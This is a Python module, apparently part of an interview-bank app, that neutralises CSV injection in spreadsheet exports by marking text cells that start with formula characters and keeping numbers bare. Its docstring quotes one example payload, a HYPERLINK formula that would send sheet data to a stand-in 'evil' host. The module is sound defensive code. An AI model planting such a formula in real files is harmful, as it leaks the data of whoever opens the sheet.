"""CSV that spreadsheets open safely: text stays text, numbers stay numbers.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with `=`,
`+`, `-` or `@` as a formula, and some do the same after a leading tab or
carriage return. Bank text, imports and answers are written by other
people, so a question titled `=HYPERLINK("http://evil/?"&A1,"x")` would be a
live link that sends the sheet away ("CSV injection"). Every CSV the app
writes for spreadsheets (`interview bank export --format csv`, the report's
CSV) goes through `spreadsheet_csv`, which follows OWASP's advice:

- a text cell (a str) that starts with one of FORMULA_STARTS, or with `'`
  itself, gets one leading `'`. Spreadsheets take it as "this is text" and do
  not show it; the rest of the cell is the exact text, so dropping one
  leading `'`, when there is one, always gives the text back (`original`);
- every text cell is quoted, so a delimiter inside it stays inside it;
- numbers (int, float) are written bare, never quoted or prefixed: a grade,
  a count or a trend of -0.5 stays a number. Write numbers as numbers, not
  as text;
- a carriage return or newline in any cell quotes it, whatever the line end
  (Python's csv module quotes only the characters of its line terminator).

The rule is described for users in docs/exports.md. It lives in the bank
layer so that both the bank export and the reports (a layer above) use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Final, Literal

# What makes a spreadsheet run a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
# The mark that keeps a cell text; text starting with it is marked too, so
# that one leading mark can always be dropped to get the text back.
TEXT_MARK: Final = "'"
MARKED_STARTS: Final = (*FORMULA_STARTS, TEXT_MARK)

Cell = str | int | float | None  # None is an empty cell


def neutralise(text: str) -> str:
    """`text` with a leading `'` when it starts with a formula character or `'`."""
    return TEXT_MARK + text if text.startswith(MARKED_STARTS) else text


def original(cell: str) -> str:
    """The text a written text cell stands for: `cell` less one leading `'`."""
    return cell.removeprefix(TEXT_MARK)


def safe_cell(value: Cell) -> str | int | float:
    """A cell as written: text neutralised, a number as it is, None empty.
    Anything else (a bool, a date) is a mistake: say what it should be."""
    if isinstance(value, str):
        return neutralise(value)
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        raise TypeError(f"a CSV cell is text, a number or None, not {type(value).__name__}: "
                        f"{value!r}")
    return value


def csv_lines(rows: Iterable[Iterable[object]], *, delimiter: str = ",",
              quoting: Literal[0, 1, 2, 3] = csv.QUOTE_MINIMAL,
              line_end: str = "\n") -> Iterator[str]:
    """Each row as one CSV record ending in `line_end`, the values as given.

    Written with a CRLF terminator, which makes the csv module quote any
    field holding a carriage return or a newline, then ended with
    `line_end`: a lone `\\r` in a field can never end the record early."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting, lineterminator="\r\n")
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(row)
        yield buffer.getvalue()[:-2] + line_end


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]], *,
                    line_end: str = "\n") -> str:
    """A header line, then one record per row, every cell through `safe_cell`.

    Header names are the app's own column names, quoted only where needed;
    in the rows every text cell is quoted and every number is bare."""
    head = csv_lines([[neutralise(name) for name in header]], line_end=line_end)
    body = csv_lines(([safe_cell(value) for value in row] for row in rows),
                     quoting=csv.QUOTE_NONNUMERIC, line_end=line_end)
    return "".join((*head, *body))
